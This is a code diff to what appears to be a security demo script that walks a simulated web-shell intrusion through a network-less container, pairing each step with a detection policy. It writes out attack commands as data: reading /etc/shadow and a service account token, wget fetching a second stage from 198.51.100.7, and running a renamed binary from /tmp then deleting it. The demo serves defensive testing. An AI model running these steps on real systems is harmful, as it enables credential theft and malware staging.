@@ -18,6 +18,11 @@ export const story: readonly StoryStep[] = [
     policy: 'no-shell-from-web-server',
   },
   { title: 'the shell looks around', command: '/bin/ls /', policy: 'block-ls-from-dash' },
+  {
+    title: 'it asks the package manager what is installed',
+    command: '/usr/bin/dpkg --get-selections',
+    policy: 'audit-package-managers',
+  },
   { title: 'it reads the password hashes', command: '/bin/cat /etc/shadow', policy: 'protect-credentials' },
   {
     title: 'it reads the service account token',
@@ -25,13 +30,13 @@ export const story: readonly StoryStep[] = [
     policy: 'protect-credentials',
   },
   {
-    title: 'it downloads the next stage (there is no network in this container)',
-    command: '/usr/bin/wget -q -T 2 http://198.51.100.7/stage2',
+    title: 'it connects to a server outside for the next stage (this container has no network, so nothing comes)',
+    command: '/usr/bin/wget -q -O /tmp/stage2 http://198.51.100.7/stage2',
     policy: 'audit-download-tools',
   },
   {
-    title: 'it runs a program that it dropped in /tmp',
-    command: 'cp /bin/cat /tmp/.kworker; /tmp/.kworker /etc/hostname',
+    title: 'it runs a program that it dropped in /tmp, and removes it',
+    command: 'cp /bin/cat /tmp/stage2; mv /tmp/stage2 /tmp/.kworker; /tmp/.kworker /etc/hostname; rm /tmp/.kworker',
     policy: 'no-execution-from-tmp',
   },
 ];
@@ -41,6 +46,15 @@ export function storyRequest(): string {
   const body = story.flatMap((step) => step.command ?? []).join('\n');
   return `POST /cgi-bin/status HTTP/1.0\r\nContent-Length: ${Buffer.byteLength(body)}\r\n\r\n${body}`;
 }
+
+/**
+ * What the container runs: the web server in the background, and then one visitor, whose request comes on standard input. The
+ * visitor is inside because this container has no network to come from.
+ */
+export const entryScript = `#!/bin/dash
+/usr/sbin/httpd -p 127.0.0.1:8080 -h /srv/www
+exec /usr/bin/nc 127.0.0.1 8080
+`;
 
 /** The page that trusts its input. */
 export const vulnerablePage = `#!/bin/dash
